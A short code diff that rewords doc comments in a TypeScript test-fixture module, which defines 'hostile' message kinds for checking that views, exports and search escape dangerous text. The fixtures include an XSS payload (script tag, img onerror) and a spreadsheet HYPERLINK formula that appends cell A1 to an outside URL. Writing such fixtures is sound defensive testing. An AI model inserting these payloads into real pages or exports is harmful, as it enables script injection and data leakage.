@@ -1,6 +1,6 @@
 import type { MessageKind } from './message-kind.ts';
 
-/** A text that every view, export and search must take as text. */
+/** A message with a text that must be escaped or handled literally. */
 function hostile(name: string, text: string): MessageKind {
   return {
     name,
@@ -14,7 +14,7 @@ function hostile(name: string, text: string): MessageKind {
   };
 }
 
-/** Texts made to trip readers, and rows that do not add up. */
+/** Hostile texts and inconsistent rows. */
 export const ODD_KINDS: readonly MessageKind[] = [
   hostile('hostile-html', `<script>alert("xss")</script><img src=x onerror="alert(1)">&lt;b&gt; </textarea>`),
   hostile('hostile-formula', '=HYPERLINK("http://example.com/?"&A1,"click")'),
